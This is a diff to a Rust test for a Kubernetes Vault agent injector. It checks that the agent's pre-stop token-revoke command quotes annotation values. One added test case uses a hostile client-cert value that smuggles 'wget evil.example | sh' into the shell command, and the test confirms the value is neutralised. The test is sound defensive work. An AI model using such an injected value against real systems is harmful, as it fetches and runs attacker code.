@@ -237,22 +237,35 @@ fn agent_revoke_on_shutdown_per_flavour_and_shape() {
         ("agent-revoke-on-shutdown", "true"),
         ("ca-cert", "/vault/tls/ca.crt"),
     ]));
-    let stock_out = injected(&with_ca, &stock(classic()));
-    let exec = container(&stock_out, "vault-agent")
-        .lifecycle
-        .clone()
-        .unwrap()
-        .pre_stop
-        .unwrap()
-        .exec
-        .unwrap();
+    let pre_stop = |pod: &Pod| {
+        container(&injected(pod, &stock(classic())), "vault-agent")
+            .lifecycle
+            .clone()
+            .unwrap()
+            .pre_stop
+            .unwrap()
+            .exec
+            .unwrap()
+            .command
+            .unwrap()
+    };
     assert_eq!(
-        exec.command.unwrap(),
+        pre_stop(&with_ca),
         [
             "/bin/sh",
             "-c",
-            "/bin/sleep 5 && /bin/vault token revoke -address=https://vault.vault.svc:8200 -ca-cert=/vault/tls/ca.crt -self"
+            "/bin/sleep 5 && /bin/vault token revoke -address='https://vault.vault.svc:8200' -ca-cert='/vault/tls/ca.crt' -self"
         ]
+    );
+    // An annotation value cannot add shell commands to the hook.
+    let hostile = pod(&with(&[
+        ("agent-revoke-on-shutdown", "true"),
+        ("client-cert", "/c.crt; wget evil.example | sh; echo 'x"),
+    ]));
+    let hook = pre_stop(&hostile);
+    assert!(
+        hook[2].contains(r"-client-cert='/c.crt; wget evil.example | sh; echo '\''x' -self"),
+        "{hook:?}"
     );
     // The flag sets the default.
     let flag = InjectorSettings {
